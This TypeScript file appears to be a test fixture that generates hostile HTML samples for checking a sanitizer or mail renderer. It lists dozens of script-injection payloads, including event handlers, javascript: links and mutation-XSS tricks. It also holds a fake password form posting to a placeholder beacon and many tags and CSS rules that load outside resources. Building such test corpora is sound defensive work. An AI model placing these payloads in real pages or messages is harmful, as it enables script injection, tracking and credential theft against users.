/**
 * HTML that attacks whoever opens it: scripts by every door we know of, requests by every attribute that fetches. `BEACON`
 * is replaced by an address that notes who calls; a script that runs calls it too, or sets `window.pwned`.
 */
export interface HostileHtml {
  name: string
  html: string
}

const RUN = `window.top.pwned=1;fetch('BEACON/script')`

const scripts: Record<string, string> = {
  'script element': `<script>${RUN}</script>`,
  'script in svg': `<svg><script>${RUN}</script></svg>`,
  'script from outside': '<script src="BEACON/a.js"></script>',
  'script split by a comment': `<scr<!-- -->ipt>${RUN}</scr<!-- -->ipt>`,
  'unclosed script': `<script>${RUN}//`,
  'script in noscript': `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  'onerror on img': `<img src=x onerror="${RUN}">`,
  'onload on svg': `<svg onload="${RUN}"></svg>`,
  'onload on body': `<body onload="${RUN}">text</body>`,
  'onfocus with autofocus': `<input onfocus="${RUN}" autofocus>`,
  'onstart on marquee': `<marquee onstart="${RUN}">x</marquee>`,
  'ontoggle on details': `<details open ontoggle="${RUN}">x</details>`,
  'onbegin on animate': `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  'onpointerover everywhere': `<div style="position:fixed;inset:0" onpointerover="${RUN}">x</div>`,
  onanimationstart: `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${RUN}">x</p>`,
  'javascript link': `<a href="javascript:${RUN}">open</a>`,
  'javascript link with entities': `<a href="jav&#x09;ascript:${RUN}">open</a>`,
  'javascript link with a control character': `<a href="\u0001javascript:${RUN}">open</a>`,
  'vbscript link': '<a href="vbscript:msgbox(1)">open</a>',
  'data link': `<a href="data:text/html,<script>${RUN}</script>">open</a>`,
  'svg link by animation': `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>open</text></a></svg>`,
  'svg link by set': `<svg><a xlink:href="#"><set attributeName=href to="javascript:${RUN}"/><text y=20>open</text></a></svg>`,
  'svg use of data':
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48L3N2Zz4=#x"></use></svg>',
  foreignObject: `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  'mathml mutation': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'mathml annotation': `<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  'form and math mutation': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  'noembed mutation': `<noembed><p title="</noembed><img src=x onerror=${RUN}>">`,
  'xmp mutation': `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  'template content': `<template><img src=x onerror=${RUN}></template>`,
  'select mutation': `<select><template><style></select><img src=x onerror=${RUN}></style></template></select>`,
  'title in svg': `<svg><title><style></title><img src=x onerror=${RUN}></style></svg>`,
  'iframe srcdoc': `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  'iframe javascript': `<iframe src="javascript:${RUN}"></iframe>`,
  'object data': `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  embed: `<embed src="data:text/html,<script>${RUN}</script>">`,
  'form action': `<form action="javascript:${RUN}"><button>send</button></form>`,
  formaction: `<form><button formaction="javascript:${RUN}">send</button></form>`,
  'button form to the outside':
    '<form action="BEACON/form" method=post><input name=password><button>Sign in</button></form>',
  clobbering: '<form id=document><input name=cookie></form><a id=location name=href href="BEACON">x</a>',
  'attribute without quotes': `<img src=x/onerror=${RUN}//>`,
  backticks: `<img src=\`x\` onerror=\`${RUN}\`>`,
  'nul inside a tag': `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  'processing instruction': `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  'cdata in svg': `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
  'conditional comment': `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  'css expression': `<div style="width:expression(${RUN})">x</div>`,
  'moz-binding': '<div style="-moz-binding:url(BEACON/b.xml#x)">x</div>',
  'custom element is': `<p is="x-y" onclick="${RUN}">x</p>`,
  'portal and fencedframe': '<portal src="BEACON/p"></portal><fencedframe src="BEACON/f"></fencedframe>',
}

const requests: Record<string, string> = {
  picture: '<img src="BEACON/img.png">',
  'picture without scheme': '<img src="//BEACONHOST/img.png">',
  'picture with entities': '<img src="&#104;ttp://BEACONHOST/e.png">',
  'picture with a tab in the scheme': '<img src="ht\ttp://BEACONHOST/t.png">',
  'picture with a backslash': '<img src="http:\\\\BEACONHOST\\b.png">',
  'image element': '<image src="BEACON/image.png">',
  srcset: '<img srcset="BEACON/1.png 1x, BEACON/2.png 2x">',
  'picture source': '<picture><source srcset="BEACON/s.png"><img alt=x></picture>',
  'input of type image': '<input type=image src="BEACON/i.png">',
  'body background': '<body background="BEACON/bg.png">x</body>',
  'table background': '<table background="BEACON/t.png"><tr><td background="BEACON/td.png">x</table>',
  'style background': '<div style="background:url(BEACON/s.png)">x</div>',
  'style background in quotes and escapes': '<div style="background:\\75\\72\\6c(\'BEACON/e.png\')">x</div>',
  'style image-set': '<div style="background-image:image-set(\'BEACON/is.png\' 1x)">x</div>',
  'style webkit-image-set': '<div style="background-image:-webkit-image-set(url(BEACON/w.png) 1x)">x</div>',
  'style cross-fade': '<div style="background-image:cross-fade(url(BEACON/c.png), url(BEACON/d.png), 50%)">x</div>',
  'style list': '<ul style="list-style:url(BEACON/l.png)"><li>x</ul>',
  'style cursor': '<div style="cursor:url(BEACON/c.cur),auto">x</div>',
  'style content': '<style>p::before{content:url(BEACON/co.png)}</style><p>x</p>',
  'style mask and filter':
    '<div style="mask:url(BEACON/m.svg);filter:url(BEACON/f.svg#x);clip-path:url(BEACON/p.svg#x)">x</div>',
  'style shape': '<div style="float:left;shape-outside:url(BEACON/so.png)">x</div>',
  'style variable': '<style>:root{--a:url(BEACON/v.png)} p{background:var(--a)}</style><p>x</p>',
  'style src()': '<style>p{background:src("BEACON/src.png")}</style><p>x</p>',
  import: '<style>@import "BEACON/i.css";</style>',
  'import with url': '<style>@import url(BEACON/iu.css) screen;</style>',
  'import behind escapes': '<style>@\\69mport "BEACON/ie.css";</style>',
  'import after a charset': '<style>@charset "utf-8";@import \'BEACON/ic.css\';</style>',
  'font-face': '<style>@font-face{font-family:x;src:url(BEACON/f.woff)} p{font-family:x}</style><p>x</p>',
  namespace: '<style>@namespace url(BEACON/ns);</style>',
  'style closed early': '<style>p{color:red}</sty\u0000le><img src="BEACON/z.png">',
  'style with a comment trick':
    '<style>p{background:u/**/rl(BEACON/ct.png);background:url/**/(BEACON/cu.png)}</style><p>x</p>',
  'media query': '<style>@media all{p{background:url(BEACON/mq.png)}}</style><p>x</p>',
  supports: '<style>@supports (display:block){p{background:url(BEACON/su.png)}}</style><p>x</p>',
  'layer import': '<style>@layer a;@import url(BEACON/la.css) layer(a);</style>',
  'link stylesheet': '<link rel=stylesheet href="BEACON/l.css">',
  'link prefetch': '<link rel="prefetch preload dns-prefetch preconnect" as=image href="BEACON/pf">',
  'link icon and manifest': '<link rel="icon" href="BEACON/i.ico"><link rel="manifest" href="BEACON/m.json">',
  'meta refresh': '<meta http-equiv=refresh content="0;url=BEACON/refresh">',
  'meta csp report': '<meta http-equiv="Content-Security-Policy" content="img-src none; report-uri BEACON/csp">',
  base: '<base href="BEACON/"><img src="relative.png"><a href="x">x</a>',
  iframe: '<iframe src="BEACON/frame"></iframe>',
  frameset: '<frameset><frame src="BEACON/frame"></frameset>',
  object: '<object data="BEACON/o.svg" type="image/svg+xml"></object>',
  'embed from outside': '<embed src="BEACON/e.swf">',
  applet: '<applet code="x" archive="BEACON/a.jar"></applet>',
  'video and poster': '<video src="BEACON/v.mp4" poster="BEACON/p.png" autoplay></video>',
  'audio and track': '<audio src="BEACON/a.mp3" autoplay><track src="BEACON/t.vtt" default></audio>',
  'svg image': '<svg><image href="BEACON/si.png" width=9 height=9 /></svg>',
  'svg feImage':
    '<svg><filter id=f><feImage href="BEACON/fe.png"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
  'svg use from outside': '<svg><use href="BEACON/u.svg#x"/></svg>',
  'svg as data picture with an outside reference':
    '<img src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cimage href=%22BEACON/d.png%22/%3E%3C/svg%3E">',
  ping: '<a href="#x" ping="BEACON/ping">x</a>',
  'cid that is an address': '<img src="cid:http://BEACONHOST/c.png">',
  'cite and longdesc': '<blockquote cite="BEACON/c">x</blockquote><img longdesc="BEACON/ld" alt=x>',
  'mathml href': '<math href="BEACON/m"><mi xlink:href="BEACON/n">x</mi></math>',
  'html manifest': '<html manifest="BEACON/appcache"><body>x</body></html>',
  'bgsound and layer': '<bgsound src="BEACON/b.wav"><layer src="BEACON/l"></layer>',
}

/** `origin` is where the beacon listens. */
export function hostileHtml(origin: string): HostileHtml[] {
  const { host } = new URL(origin)
  return Object.entries({ ...scripts, ...requests }).map(([name, html]) => ({
    name,
    html: `<p>visible text</p>${html.replaceAll('BEACONHOST', host).replaceAll('BEACON', origin)}<p>end of letter</p>`,
  }))
}
